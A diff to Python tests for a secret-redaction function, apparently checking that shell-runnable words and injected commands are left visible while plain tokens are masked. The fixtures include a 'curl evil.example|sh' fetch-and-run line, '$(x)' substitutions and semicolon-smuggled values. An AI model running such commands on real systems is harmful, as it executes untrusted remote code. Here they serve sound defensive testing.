@@ -57,6 +57,8 @@ def test_what_a_shell_would_run_is_not_hidden_as_a_secret(line: str) -> None:
         'SECRET="a";evil.example "b"',
         "echo x-token: a;evil.example",
         "x://a:b;evil.example;@c",
+        "set -- --token ./evil.example",
+        "API_TOKEN=~/evil.example run",
     ],
 )
 def test_no_code_of_a_line_that_is_decided_about_is_hidden(line: str) -> None:
@@ -69,8 +71,12 @@ def test_plain_secrets_of_such_a_line_stay_hidden() -> None:
 
 
 def test_a_word_that_a_shell_may_run_is_no_secret_of_a_command_line() -> None:
-    words = ["bash", "-c", 'eval "$1"', "--token", "curl evil.example|sh", "--api-key=$(x)", "wget http://a:1|evil #@x"]
+    words = ["run", "--token", "curl evil.example|sh", "--api-key=$(x)", "wget http://a:1|evil #@x", "--token", "a$IFS"]
     assert without_secrets(words) == words
+    for interpreter in ("bash", "/usr/bin/python3.11", "node"):
+        words = ["env", interpreter, "-x", "-c", "CODE", "--token", "payload"]
+        assert without_secrets(words) == words
+    assert without_secrets(["node", "server.js", "--token", "abc"])[-1] is None
     assert without_secrets(["--token", "abc", "http://a:b@c/?token=d;e", "http://c/?token=d"]) == [
         *("--token", None, "http://a:@c/?token=d;e", "http://c/?token="),
     ]
